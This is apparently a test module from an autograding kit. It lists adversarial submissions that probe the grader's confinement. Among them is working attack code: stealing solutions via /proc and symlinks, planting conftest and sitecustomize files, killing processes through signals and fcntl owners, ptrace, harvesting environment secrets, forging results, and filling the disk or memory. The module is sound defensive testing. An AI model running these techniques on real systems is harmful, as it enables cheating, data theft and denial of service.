"""The attack corpus: submissions written by a dishonest student, and what each must achieve nothing at.

Every attack is a ``lookup.py`` (or ``gpt2_heads.py``) that implements nothing
itself: any point it earns is stolen. It is graded the way an instructor
grades, by ``softlookup check --json`` in a process of its own, against a
disposable copy of the kit (so that a protection that fails cannot damage the
real one). :func:`run_attack` returns what happened; ``tests/adversarial/test_attacks.py``
holds every attack to its expected outcome, and ``python tests/attacks.py
KIT_COPY_PARENT`` prints a table of every attack's outcome, held to what SECURITY.md's threat
model requires.

Each attack's code gets ``KIT`` (the kit copy's folder), ``NEIGHBOUR`` (the pid
of an unrelated process), ``PORT`` (a TCP port listening on 127.0.0.1) and
``RESULTS`` (the results file the judge writes) as plain constants, as a
student who read the kit's source could guess them, and ``TARGETS``: the
paths inside the kit it aims at. Those are declared with the attack and must
exist, so that an attack on a file the kit has moved fails loudly instead of
passing while it tests nothing.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import classes
from grader.reports import gradebook
from helpers import ASSIGNMENTS, SOLUTIONS

KIT_PARTS = ("grader", "solutions", "assignments", "tests")
SECRET = "hunter2-do-not-leak"
TIME_LIMIT = 0.5  # seconds per call: attacks that hang are bounded by it (and waited for 2 s per function)
BOUND = 90  # seconds a whole grading may take, however hostile the submission

# Stealing the reference: each route ends in a module object, or raises saying why it could not.
STEAL = '''
import importlib.util, os, sys

def _load(path):
    spec = importlib.util.spec_from_file_location("stolen", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module

{route}

try:
    _ref, _why = _steal(), ""
except BaseException as error:
    _ref, _why = None, f"{{type(error).__name__}}: {{error}}"


def _use(name, *args):
    if _ref is None:
        raise RuntimeError("blocked: " + _why)
    return getattr(_ref, name)(*args)


def exact_lookup(query, keys, values):
    return _use("exact_lookup", query, keys, values)


def nearest_lookup(query, keys, values):
    return _use("nearest_lookup", query, keys, values)


def soft_lookup(query, keys, values, sharpness=1.0):
    return _use("soft_lookup", query, keys, values, sharpness)
'''

# Doing something nasty whenever a function is called; the functions then return nothing useful.
ON_CALL = '''
import os, signal, socket, subprocess, sys, time

_refused = []  # what stopped it, the first of which the student is told (the contained run's reason)

def _attack():
{body}

def _after_the_attack():
    returned = _attack()
    if returned is None and _refused:
        raise _refused[0]
    if returned is None:
        raise RuntimeError("nothing to show for it")
    return returned

def exact_lookup(query, keys, values):
    return _after_the_attack()

def nearest_lookup(query, keys, values):
    return _after_the_attack()

def soft_lookup(query, keys, values, sharpness=1.0):
    return _after_the_attack()
'''


# Forging points in the student's own process: recompute_head_pattern gets a model that cannot report its
# attention weights (it must recompute them), and tries to make it report them anyway.
FORGE = '''
import torch
{at_import}

def head_pattern(model, tokenizer, text, layer, head):
    raise NotImplementedError

def layer_average(model, tokenizer, text, layer):
    raise NotImplementedError

def attention_share(tokens, pattern, from_token, to_token):
    raise NotImplementedError

def recompute_head_pattern(model, input_ids, layer, head):
{switch_back}
    ids = torch.tensor([list(input_ids)])
    with torch.no_grad():
        return model(ids, output_attentions=True).attentions[layer][0, head].numpy()
'''


# Earning the reference's points if, and only if, a route the confinement should close is open: the module is
# the reference lookup behind a gate, so a point earned is a route left open (the attack proves itself).
GATED = """
import os
{reference}

_ROUTE = []

def _route_open():
{route}

_HONEST = {{name: globals()[name] for name in ("exact_lookup", "nearest_lookup", "soft_lookup")}}

def _gated(name):
    def gated(*args, **kwargs):
        if not _ROUTE:
            _ROUTE.append(bool(_route_open()))
        if not _ROUTE[0]:
            raise RuntimeError("contained")
        return _HONEST[name](*args, **kwargs)
    return gated

for _name in _HONEST:
    globals()[_name] = _gated(_name)
"""

# The processes above a worker, as far as the judge (supervisor, fork server, judge; a shared fork server and its
# copy in a class run), for attacks that aim at them: read from /proc where it can be, else the parent alone.
ANCESTORS = '''
def _ancestors(levels=4):
    found, pid = [], os.getppid()
    while pid > 1 and len(found) < levels:
        found.append(pid)
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return found
'''


# Holding what no limit of the worker's counts, at import: memory in files and pipes, or the disk. Its functions
# answer right (and earn points) only while it still holds HOARD_GOAL bytes when the checks call them.
HOARD = '''
import os, tempfile
import numpy as np

HOARD_GOAL = 256 * 2**20  # what the issue's attacker held beyond --memory-limit 256 (it held 640 MB)
_BLOCK = b"x" * 2**20
_held, _pipes = [], []  # descriptors of the files it keeps; (read end, write end, bytes waiting) of its pipes


def _fill(path, hide=False):
    """Write up to 64 MB (the per-file limit) to ``path`` and keep it open; True where it wrote it all."""
    try:
        fd = os.open(path, os.O_CREAT | os.O_RDWR, 0o600)
    except OSError:
        return False
    _held.append(fd)
    written = 0
    try:
        while written < 64 * 2**20:
            written += os.write(fd, _BLOCK)
    except OSError:
        pass
    if hide:
        try:
            os.unlink(path)  # out of any folder's listing, still held through the descriptor
        except OSError:
            pass
    return written >= 64 * 2**20


def _fill_pipes():
    """Pipes filled and never read: the kernel keeps what waits in them."""
    for _ in range(100):
        try:
            read, write = os.pipe()
        except OSError:
            return
        os.set_blocking(write, False)
        waiting = 0
        try:
            while waiting < 64 * 2**20:
                waiting += os.write(write, _BLOCK[:65536])
        except OSError:
            pass
        _pipes.append((read, write, waiting))


def _holding():
    held = sum(waiting for _, _, waiting in _pipes)
    for fd in _held:
        try:
            held += os.fstat(fd).st_blocks * 512
        except OSError:
            pass
    return held


try:
{hoard}
except OSError:
    pass


def _earned():
    if _holding() < HOARD_GOAL:
        raise RuntimeError(f"contained: it holds {{_holding() / 2**20:.0f}} MB")


def exact_lookup(query, keys, values):
    _earned()
    return next((value for key, value in zip(keys, values) if key == query), None)


def nearest_lookup(query, keys, values):
    _earned()
    return values[int(np.argmin(np.abs(np.asarray(keys, dtype=float) - query)))]


def soft_lookup(query, keys, values, sharpness=1.0):
    _earned()
    scores = -sharpness * (query - np.asarray(keys, dtype=float)) ** 2
    weights = np.exp(scores - scores.max())
    weights /= weights.sum()
    return float(weights @ np.asarray(values, dtype=float)), weights
'''


# The emulated machines whose scratch is no tmpfs of its own (a container, or no uid map): the kit counts what a
# worker writes there and stops it past the bound, where the full kernel's tmpfs answers "no space left".
COUNTED_SCRATCH = ("docker-debian12", "jupyterhub", "ubuntu-24.04")


def _indent(code: str) -> str:
    return "\n".join("    " + line for line in code.strip().splitlines())


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str  # the class: read, forge, plant, outlive, change, stall
    code: str  # the module's source, with KIT, NEIGHBOUR, PORT and RESULTS defined above it
    module: str = "lookup"
    links: dict = field(default_factory=dict)  # file name in the submission -> path inside the kit copy
    settle: float = 0.3  # seconds to wait after the judge exits before looking (for a surviving daemon)
    harmful: bool = False  # would do real damage to a machine where it succeeds (kill everything, fill the disk)
    # What stops it: "confinement" (the kernel's part: files, processes, signals, the network, limits), which
    # each emulated Linux provides by other means (tests/environments.py), or "judge" (the judge's own code:
    # forgeries recomputed, a protocol held to its bounds), the same on every kernel.
    defence: str = "confinement"
    # The reason the contained run gives, as a regular expression the judge's output must match ("{kit}": the kit
    # copy's folder): which protection refused it, not merely that it earned nothing.
    refused: str = ""
    # Where an emulated machine (tests/environments.py) refuses it by another mechanism: its name -> the reason there.
    refused_elsewhere: dict = field(default_factory=dict)
    # What it does where the protection is absent: a name in tests/attack_controls.py's EFFECTS, which its positive
    # control (the same code run unconfined, in a disposable copy) must show.
    effect: str = ""
    # What it aims at in the kit, as paths inside it ("path::name": a name that file must still hold). The
    # code gets the paths as TARGETS; an attack whose target moved would prove nothing, so it fails instead.
    targets: tuple[str, ...] = ()

    def source(self, kit: Path, neighbour: int, port: int, results: Path) -> str:
        paths = [target.partition("::")[0] for target in self.targets]
        header = (f"KIT = {str(kit)!r}\nNEIGHBOUR = {neighbour}\nPORT = {port}\nRESULTS = {str(results)!r}\n"
                  f"TARGETS = {paths!r}\n")
        return header + self.code

    def refusal(self, kit: Path, environment: str = "") -> str:
        """The reason for the kit copy at ``kit``, on ``environment`` (by default the full kernel): a regular
        expression."""
        return self.refused_elsewhere.get(environment, self.refused).replace("{kit}", re.escape(str(kit)))

    def missing_targets(self, kit: Path) -> list[str]:
        """The targets (and link targets) the kit no longer has: the attack must be updated to aim again."""
        missing = []
        for target in [*self.targets, *self.links.values()]:
            path, _, name = target.partition("::")
            if not (kit / path).exists() or (name and name not in (kit / path).read_text()):
                missing.append(target)
        return missing


def steal(name: str, route: str, **extra) -> Attack:
    return Attack(name, "read", STEAL.format(route=route.strip()), **extra)


def on_call(name: str, kind: str, body: str, preamble: str = "", **extra) -> Attack:
    return Attack(name, kind, preamble + ON_CALL.format(body=_indent(body)), **extra)


def _reference_lookup() -> str:
    """The reference lookup.py with the reference softmax inside it: a module that stands alone."""
    softmax = (SOLUTIONS / "softmax.py").read_text()
    return (SOLUTIONS / "lookup.py").read_text().replace("from softmax import softmax\n", softmax)


def honest(name: str) -> Attack:
    """An honest student, graded among the attacks: the reference lookup, which must keep full marks."""
    return Attack(name, "none", _reference_lookup())


def gated(name: str, kind: str, route: str, **extra) -> Attack:
    """An attack whose lookup is the reference's, answering only if ``route`` (the body of a function that says
    whether the route worked) is open: any point it earns shows the protection missing."""
    return Attack(name, kind, GATED.format(reference=_reference_lookup(), route=_indent(route)), **extra)


def hoard(name: str, at_import: str) -> Attack:
    """Its gate says how much it held: under the confinement, less than HOARD_GOAL (the scratch's bound, the
    refused memory outside the address space)."""
    return Attack(name, "stall", HOARD.format(hoard=_indent(at_import)), harmful=True,
                  refused=r"raised RuntimeError: contained: it holds \d+ MB", effect="answered",
                  refused_elsewhere=dict.fromkeys(COUNTED_SCRATCH, r"Your code wrote more to its scratch folder \(files"))


def forge(name: str, switch_back: str, at_import: str = "", targets: tuple[str, ...] = (),
          effect: str = "forged") -> Attack:
    """The model it is given reports no attention weights however it is switched (grader/lesson/models.py's
    hide_attention_weights): its recompute reads an empty tuple."""
    code = FORGE.format(at_import=at_import.strip(), switch_back=_indent(switch_back) if switch_back.strip() else "")
    return Attack(name, "forge", code, module="gpt2_heads", targets=targets, defence="judge",
                  refused=r"recompute_head_pattern\(\) raised IndexError: tuple index out of range", effect=effect)


ATTACKS = [
    # 1. Read the answer -------------------------------------------------------------------
    steal("reference by its path", '''
def _steal():
    return _load(os.path.join(KIT, TARGETS[0]))
''', targets=("solutions/lookup.py",), refused="blocked: PermissionError: \\[Errno 13\\] Permission denied: '{kit}/solutions/lookup\\.py'", effect='answered'),
    steal("reference beside the grader package", '''
def _steal():
    import grader
    return _load(os.path.join(os.path.dirname(grader.__path__[0]), TARGETS[0]))
''', targets=("solutions/lookup.py",), refused="blocked: PermissionError: \\[Errno 13\\] Permission denied: '{kit}/solutions/lookup\\.py'", effect='answered'),
    steal("reference through the judge's folders in /proc", '''
def _steal():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        places = []
        try:
            places.append(os.readlink(f"/proc/{pid}/cwd"))
            places += open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\\0")
        except OSError:
            continue
        for place in places:
            while place and place != "/":
                candidate = os.path.join(place, TARGETS[0])
                if os.path.isfile(candidate):
                    return _load(candidate)
                place = os.path.dirname(place)
    raise FileNotFoundError("no solutions found through /proc")
''', targets=("solutions/lookup.py",), refused="blocked: PermissionError: \\[Errno 13\\] Permission denied: '/proc'", effect='answered',
       refused_elsewhere={"gradescope": "blocked: FileNotFoundError: no solutions found through /proc"}),
    steal("reference through a link in the submission", '''
def _steal():
    return _load(os.path.join(os.path.dirname(__file__), "answers.py"))
''', links={"answers.py": "solutions/lookup.py"}, refused='is a link to {kit}/solutions/lookup\\.py, outside the folder', effect='answered'),
    steal("right answers in the kit's own tests", '''
def _steal():
    import ast, types
    import numpy as np
    tree = ast.parse(open(os.path.join(KIT, TARGETS[0])).read())
    answers = next(node.value for node in tree.body if isinstance(node, ast.Assign)
                   and getattr(node.targets[0], "id", "") == "OTHER_RIGHT_ANSWERS")
    code = next(ast.literal_eval(variant)["lookup"] for variant in answers.values
                if "lookup" in ast.literal_eval(variant))
    namespace = {"np": np, "softmax": lambda x, axis=-1: np.exp(x) / np.exp(x).sum(axis, keepdims=True)}
    exec(code, namespace)
    return types.SimpleNamespace(**namespace)
''', targets=("tests/checks/test_kit.py::OTHER_RIGHT_ANSWERS",), refused="Permission denied: '{kit}/tests/checks/test_kit\\.py'", effect='answered'),
    Attack("ground truth loaded in the worker", "read", '''
import numpy as np

def _truth():
    from grader.lesson import gpt2
    return gpt2

def head_pattern(model, tokenizer, text, layer, head):
    tokens, attentions = _truth().attention_patterns(model, tokenizer, text)
    return tokens, attentions[layer, head]

def layer_average(model, tokenizer, text, layer):
    tokens, attentions = _truth().attention_patterns(model, tokenizer, text)
    return tokens, attentions[layer].mean(axis=0)

def attention_share(tokens, pattern, from_token, to_token):
    raise NotImplementedError

def recompute_head_pattern(model, input_ids, layer, head):
    raise NotImplementedError
''', module="gpt2_heads", targets=("grader/lesson/gpt2.py::def attention_patterns",), refused='tried to open {kit}/grader/lesson/gpt2\\.py, outside its own folder', effect='ground truth read',
       refused_elsewhere={"gradescope": "raised ImportError: cannot import name 'gpt2' from 'grader.lesson'"}),
    forge("attention weights read back for a recompute", ""),
    forge("attention switched back through the model's config", """
model.config._attn_implementation = "eager"
"""),
    forge("attention switched back through the model's class", """
type(model).set_attn_implementation(model, "eager")
"""),
    forge("the kit's model builder replaced at import", """
""", at_import="""
import dataclasses, sys
_models = sys.modules[TARGETS[0].removesuffix(".py").replace("/", ".")]
_build = _models.build
_models.build = lambda spec: _build(dataclasses.replace(spec, attentions=True))
""", targets=("grader/lesson/models.py::def build",), effect="forged by the builder"),
    # 2. Plant code where the judge imports from --------------------------------------------
    on_call("conftest.py beside the checks", "plant", '''
evil = "import pytest\\n@pytest.hookimpl(hookwrapper=True)\\ndef pytest_runtest_makereport(item, call):\\n" \\
       "    outcome = yield\\n    outcome.get_result().outcome = 'passed'\\n"
for folder in [*TARGETS, ""]:
    try:
        open(os.path.join(KIT, folder, "conftest.py"), "w").write(evil)
    except OSError as error:
        _refused.append(error)
''', targets=("grader/checks/public", "grader/checks/hidden", "grader/checks", "grader"),
       refused='tried to open {kit}/grader/checks/public/conftest\\.py, outside its own folder', effect='kit changed'),
    on_call("the judge's own modules rewritten", "plant", '''
for name in TARGETS:
    try:
        open(os.path.join(KIT, name), "a").write("\\nraise SystemExit(0)\\n")
    except OSError as error:
        _refused.append(error)
''', targets=("grader/engine/verify.py", "grader/engine/results.py", "grader/engine/plugin.py"),
       refused='tried to open {kit}/grader/engine/verify\\.py, outside its own folder', effect='kit changed'),
    on_call("sitecustomize and .pth files in site-packages", "plant", '''
import site, sysconfig
for folder in {*site.getsitepackages(), sysconfig.get_paths()["purelib"]}:
    for name, text in (("sitecustomize.py", "import os\\n"), ("zz-softlookup-attack.pth", "import os\\n")):
        try:
            open(os.path.join(folder, name), "w").write(text)
        except OSError as error:
            _refused.append(error)
''', refused='tried to open \\S+/sitecustomize\\.py, outside its own folder', effect='site-packages changed'),
    # 3. Outlive the worker, or strike the judge ----------------------------------------------
    on_call("daemon that rewrites the results", "outlive", '''
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(600):  # wait for the judge to write its results, then replace them
                time.sleep(0.1)
                if os.path.exists(RESULTS):
                    time.sleep(0.5)
                    open(RESULTS, "w").write('{"score": 999, "max_score": 22, "tests": []}')
                    break
        os._exit(0)
except OSError as error:
    _refused.append(error)
''', settle=3.0, refused='tried to start or signal another process', effect='results rewritten'),
    on_call("SIGKILL to every process it can name", "outlive", '''
import itertools
for pid in itertools.chain([NEIGHBOUR, os.getppid(), -1], range(2, 70_000)):
    try:
        if pid != os.getpid():  # every process but its own, which would end the attack
            os.kill(pid, signal.SIGKILL)
    except OSError as error:
        _refused.append(error)
''', harmful=True, refused='tried to signal a process outside its own worker', effect='neighbour killed'),
    on_call("the judge's memory through /proc", "outlive", '''
reached = []  # what it could open or trace, returned as its answer
for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
    try:
        open(f"/proc/{pid}/mem", "r+b").close()
        reached.append(f"/proc/{pid}/mem")
    except (OSError, ValueError):
        pass
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in (NEIGHBOUR, os.getppid()):
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        os.waitpid(pid, 0x40000000)  # __WALL: until it has stopped, which a detach needs (else it stays stopped)
        libc.ptrace(17, pid, 0, 0)  # detach again: proving it could is enough
        reached.append(f"traced {pid}")
    else:
        _refused.append(OSError(ctypes.get_errno(), "ptrace"))
return " ".join(reached) or None
''', refused='tried to open /proc, outside its own folder', effect='reached',
       refused_elsewhere={"gradescope": "tried to start or signal another process"}),
    on_call("200 processes", "outlive", '''
for _ in range(200):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    except OSError as error:
        _refused.append(error)
        break
''', refused='tried to start or signal another process', effect='processes left'),
    # Signals the kernel sends on the worker's behalf (issue 45): each aims at the neighbour and at the judge.
    on_call("SIGKILL to the judge through a pipe's I/O owner", "outlive", '''
import fcntl
refused = None
for owner in [NEIGHBOUR, *_ancestors()]:  # the supervisor, the fork server, the judge
    read, write = os.pipe()
    try:
        fcntl.fcntl(read, fcntl.F_SETOWN, owner)
        fcntl.fcntl(read, 10, signal.SIGKILL)  # F_SETSIG: the owner gets SIGKILL rather than SIGIO
        fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
        os.write(write, b"x")  # I/O is possible: the kernel signals the owner
    except OSError as error:
        refused = refused or error
    finally:
        os.close(read)
        os.close(write)
if refused:
    raise refused  # what the student is told it was refused
''', preamble=ANCESTORS, harmful=True, refused='tried to signal a process outside its own worker', effect='judge killed'),
    on_call("SIGIO to a neighbour through the owner of its own socket (ioctl)", "outlive", '''
import fcntl, gc, struct
FIOSETOWN, FIOASYNC = 0x8901, 0x5452
for conn in [o for o in gc.get_objects() if isinstance(o, socket.socket) and o.fileno() >= 0]:  # not closed ones
    try:  # the judge's next request signals
        fcntl.ioctl(conn.fileno(), FIOSETOWN, struct.pack("i", NEIGHBOUR))
        fcntl.ioctl(conn.fileno(), FIOASYNC, struct.pack("i", 1))
    except OSError as error:
        _refused.append(error)
''', refused='tried to signal a process outside its own worker', effect='neighbour killed'),
    on_call("SIGKILL to the judge's process group and session", "outlive", '''
import fcntl
groups = {os.getpgid(pid) for pid in _ancestors()}  # the judge's group, if a supervisor shares it
for group in groups:
    read, write = os.pipe()
    try:  # a negative owner is a process group: the kernel signals every process in it
        fcntl.fcntl(read, fcntl.F_SETOWN, -group)
        fcntl.fcntl(read, 10, signal.SIGKILL)
        fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
        os.write(write, b"x")
    except OSError as error:
        _refused.append(error)
    for kill in (lambda: os.killpg(group, signal.SIGKILL), lambda: os.kill(-group, signal.SIGKILL)):
        try:
            kill()
        except OSError as error:
            _refused.append(error)
for kill in (lambda: os.killpg(0, signal.SIGKILL), lambda: os.kill(0, signal.SIGKILL)):  # its own group, last
    try:
        kill()
    except OSError as error:
        _refused.append(error)
''', preamble=ANCESTORS, harmful=True, refused='tried to signal a process outside its own worker', effect='judge killed'),
    on_call("a timer and a message queue that signal the judge", "outlive", '''
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
SIGEV_SIGNAL, SIGEV_THREAD_ID, CLOCK_MONOTONIC = 0, 4, 1
for target in [NEIGHBOUR, *_ancestors()]:  # the kernel takes only a thread of the caller's own process
    event = ctypes.create_string_buffer(struct.pack("qiii", 0, signal.SIGKILL, SIGEV_SIGNAL | SIGEV_THREAD_ID,
                                                    target).ljust(64, b"\\0"))
    timer = ctypes.c_void_p()
    if libc.timer_create(CLOCK_MONOTONIC, event, ctypes.byref(timer)) == 0:
        libc.timer_settime(timer, 0, ctypes.create_string_buffer(struct.pack("qqqq", 0, 0, 0, 1000)), None)
queue = libc.mq_open(b"/softlookup-attack", 0o102, 0o600, None)  # O_RDWR | O_CREAT
if queue >= 0:
    libc.mq_notify(queue, ctypes.create_string_buffer(struct.pack("qii", 0, signal.SIGKILL, SIGEV_SIGNAL)
                                                       .ljust(64, b"\\0")))
    libc.mq_unlink(b"/softlookup-attack")
else:
    _refused.append(OSError(ctypes.get_errno(), "mq_open"))
time.sleep(0.05)
return "a queue that signals" if queue >= 0 else None  # the kernel keeps a timer's signal to the caller
''', preamble=ANCESTORS, refused='tried to keep memory outside its own worker', effect='reached'),
    # Memory held outside the address space, which the limit does not count (issue 45).
    gated("memory kept in in-memory files, shared memory and pipes", "outlive", '''
import ctypes, fcntl
held, kept, block, refused = 0, [], b"m" * 2**20, []
try:
    for _ in range(6):  # 6 files of 40 MB: each under the per-file limit, together well past the memory limit
        memory = os.memfd_create("held")
        for _ in range(40):
            os.write(memory, block)
        kept.append(memory)
        held += 40 * 2**20
except OSError as error:
    refused.append(error)
libc = ctypes.CDLL(None, use_errno=True)
segment = libc.shmget(0, 64 * 2**20, 0o1600)  # IPC_PRIVATE, IPC_CREAT: a segment that would outlive the worker
if segment >= 0:
    held += 64 * 2**20
    libc.shmctl(segment, 0, None)  # IPC_RMID: proving it could is enough
for _ in range(64):
    try:
        read, write = os.pipe()
        held += fcntl.fcntl(write, 1031, 2**20)  # F_SETPIPE_SZ: a megabyte of buffer in the kernel
        kept += [read, write]
    except OSError as error:
        refused.append(error)
        break
if held < 200 * 2**20 and refused:
    raise refused[0]  # what stopped it, which the student is told
return held >= 200 * 2**20
''', harmful=True, refused='tried to keep memory outside its own worker', effect='answered'),
    # 4. Change how later submissions are graded -------------------------------------------
    on_call("reference and hidden checks rewritten", "change", '''
for name in TARGETS:
    try:
        open(os.path.join(KIT, name), "w").write("raise SystemExit(0)\\n")
    except OSError as error:
        _refused.append(error)
''', targets=("solutions/lookup.py", "grader/checks/hidden/test_lookup.py", "grader/engine/registry.py"),
       refused='tried to open {kit}/solutions/lookup\\.py, outside its own folder', effect='kit changed'),
    # 5. Stall or bloat the judge ----------------------------------------------------------------
    on_call("half a message, then silence", "stall", '''
import gc
for conn in [o for o in gc.get_objects() if isinstance(o, socket.socket)]:
    try:
        conn.sendall((50 * 2**20).to_bytes(4, "big") + b"{")
        conn.sendall((50).to_bytes(4, "big") + b"[")
    except OSError:
        continue
time.sleep(600)
''', defence="judge", refused='waited for more than 1 s without computing', effect='half a message'),
    Attack("forged records on its own end of the socket", "stall", '''
import gc, json, os, socket, struct, sys

JUNK = [[[{"a": [1e308, -1, None, "\\x1b[2J"]}]]]
FORGERIES = {  # one per function: an error record of wrong types, huge numbers, values that cannot be rebuilt
    "exact_lookup": {"error": {"kind": ["refused"], "type": {"x": JUNK}, "message": JUNK, "where": [JUNK, 10**40, {}]}},
    "nearest_lookup": {"value": {"tuple": [{"float": 10**400}, {"tensor": {"dtype": "<f8", "shape": [10**30], "data": "",
                                                                   "grad": "yes"}}, {"scalar": {"dtype": "|O8"}}]}},
    "soft_lookup": {"value": {"array": {"dtype": "<f8", "shape": [10**30, 10**30], "data": ""}}, "arguments": JUNK},
}

def _forge(function):
    frame, request = sys._getframe(), None
    while frame is not None and not isinstance(request, dict):  # the worker's own request, for its id
        request, frame = frame.f_locals.get("request"), frame.f_back
    number = request["id"] if isinstance(request, dict) else 1
    records = [{"id": number, "output": JUNK, "lines": -10**40} if function == "soft_lookup" else
               {"id": number, "output": "forged", "lines": 10**40}, {"id": number, **FORGERIES[function]}]
    frames = b"".join(struct.pack("!I", len(body)) + body for body in (json.dumps(r).encode() for r in records))
    for conn in [o for o in gc.get_objects() if isinstance(o, socket.socket)]:
        try:
            conn.sendall(frames)
        except OSError:
            pass
    os._exit(0)  # the worker's own answer never follows

def exact_lookup(query, keys, values):
    _forge("exact_lookup")

def nearest_lookup(query, keys, values):
    _forge("nearest_lookup")

def soft_lookup(query, keys, values, sharpness=1.0):
    _forge("soft_lookup")
''', defence="judge", refused='sent a message the grader did not ask for', effect='records forged'),
    on_call("a million small containers", "stall", '''
return [[{"a": [None]}] for _ in range(1_000_000)]
''', defence="judge", refused='computed for more than its 0\\.5 s time limit', effect='huge value'),
    Attack("a codec patched to stall", "stall", '''
import time
import grader.engine.confinement.codec
grader.engine.confinement.codec.from_plain = lambda *args, **kwargs: time.sleep(600)
grader.engine.confinement.codec.to_plain = lambda *args, **kwargs: time.sleep(600)

def exact_lookup(query, keys, values):
    return None

def nearest_lookup(query, keys, values):
    return 0.0

def soft_lookup(query, keys, values, sharpness=1.0):
    return 0.0, [0.25] * 4
''', defence="judge", refused='waited for more than 1 s without computing', effect='codec stalls'),
    on_call("the judge's environment in an error", "stall", '''
leaked = os.environ.get("SOFTLOOKUP_ATTACK_SECRET", "")
for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
    try:
        leaked += open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
    except OSError:
        pass
raise RuntimeError("\\x1b[2J\\x1b[31m" + leaked + "A" * 5_000_000)
''', refused='tried to open /proc, outside its own folder', effect='leaked',
       refused_elsewhere={"gradescope": "raised RuntimeError: \ufffd\\[2J\ufffd\\[31mA{100}"}),
    on_call("a connection to 127.0.0.1", "stall", '''
for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM)):
    try:
        with socket.socket(family, kind) as connection:
            connection.settimeout(1)
            connection.connect(("127.0.0.1", PORT))
            connection.sendall(b"stolen")
    except OSError as error:
        _refused.append(error)
''', refused='tried to open a network connection', effect='connected'),
    on_call("the disk filled", "stall", '''
block = b"x" * 2**20
for number in range(100_000):
    try:
        with open(f"fill-{number}", "wb") as handle:
            for _ in range(63):
                handle.write(block)
    except OSError as error:
        _refused.append(error)
        break
for folder in ("/tmp", "/var/tmp", os.path.expanduser("~")):
    try:
        open(os.path.join(folder, "softlookup-attack-fill"), "wb").write(block)
    except OSError as error:
        _refused.append(error)
''', harmful=True, refused=r'raised OSError: \[Errno 28\] No space left on device', effect='disk filled',
       refused_elsewhere={"gradescope": "tried to open fill-0, outside its own folder",  # writes refused there
                          **dict.fromkeys(COUNTED_SCRATCH, "wrote more than 64 MB or 4,096 files to its scratch")}),
    # 6. Hold what the limits do not count: memory in files and pipes, the disk past the scratch's bound -----
    hoard("memory held in files and pipes", '''
for folder in ("/dev/shm", os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp"):
    for number in range(10):
        if not _fill(os.path.join(folder, f"held-{os.getpid()}-{number}"), hide=True):
            break
_fill_pipes()
'''),
    hoard("the disk filled at import and held", '''
for number in range(5):
    _fill(f"fill-{number}")
'''),
    hoard("the disk filled, then its scratch folder closed to all", '''
os.mkdir("closed")
for number in range(5):
    _fill(f"closed/fill-{number}")
    os.chmod(f"closed/fill-{number}", 0)
os.chmod("closed", 0)
os.chmod(".", 0)
'''),
]


# -- running one ---------------------------------------------------------------------------------


@dataclass
class Outcome:
    attack: str
    seconds: float
    exit_code: int | None  # None: the judge did not finish within BOUND
    score: float | None  # None: no results file, or not JSON
    results_intact: bool  # the results file still says what the judge wrote, 3 s later
    kit_intact: bool
    site_packages_intact: bool
    neighbour_alive: bool
    leftovers: list[str]  # processes or files a run left behind
    connections: int
    leaked: bool
    output: str
    status: str | None = None  # the student's status in the gradebook, where the attack was graded in a class


def kit_copy(parent: Path, source: Path) -> Path:
    """A disposable copy of the kit: what the attacks may try to read and change.

    Its ``assignments/`` is the release's stubs, not the learner's edits, and no
    cache a command left in the kit (``__pycache__``, ``.pytest_cache``) comes along.
    """
    target = parent / "kit"
    for part in KIT_PARTS:
        shutil.copytree(ASSIGNMENTS if part == "assignments" else source / part, target / part,
                        ignore=shutil.ignore_patterns("__pycache__", ".pytest_cache", ".ipynb_checkpoints"))
    return target


def manifest(folder: Path) -> dict[str, str]:
    found = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file() and "__pycache__" not in path.parts:
            found[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def _site_packages() -> dict[str, tuple[int, int]]:
    """Every entry of site-packages two levels deep (a .pth, a package's ``__init__.py``), with its size and the
    time its inode last changed: a file planted, removed, rewritten or renamed changes it, whatever mtime the
    attack then sets (ctime cannot be set back). Deeper files cost too long to stat around every attack; the
    startup hooks (sitecustomize, .pth) and what a package runs first are all within two levels."""
    import site

    found = {}
    for top in site.getsitepackages():
        for folder in [top, *(entry.path for entry in os.scandir(top) if entry.is_dir(follow_symlinks=False))] \
                if os.path.isdir(top) else []:
            stat = os.lstat(folder)
            found[folder] = (stat.st_size, stat.st_ctime_ns)
            for entry in os.scandir(folder):
                stat = entry.stat(follow_symlinks=False)
                found[entry.path] = (stat.st_size, stat.st_ctime_ns)
    return found


def _listener() -> tuple[socket.socket, list[bytes]]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    received: list[bytes] = []

    def accept():
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            received.append(connection.recv(100))
            connection.close()

    threading.Thread(target=accept, daemon=True).start()
    return server, received


def _processes_under(folder: Path) -> list[str]:
    """Processes whose working folder lies in ``folder`` (every worker starts in its scratch folder there)."""
    found = []
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and os.readlink(f"/proc/{pid}/cwd").startswith(str(folder)):
                found.append(f"process {pid}")
        except OSError:
            pass
    return found


def run_attack(attack: Attack, kit: Path, work: Path, python: str = sys.executable, launcher: tuple = (),
               as_user: tuple = ()) -> Outcome:
    """Grade ``attack`` against the kit copy ``kit`` in a fresh judge process, and inspect everything after.

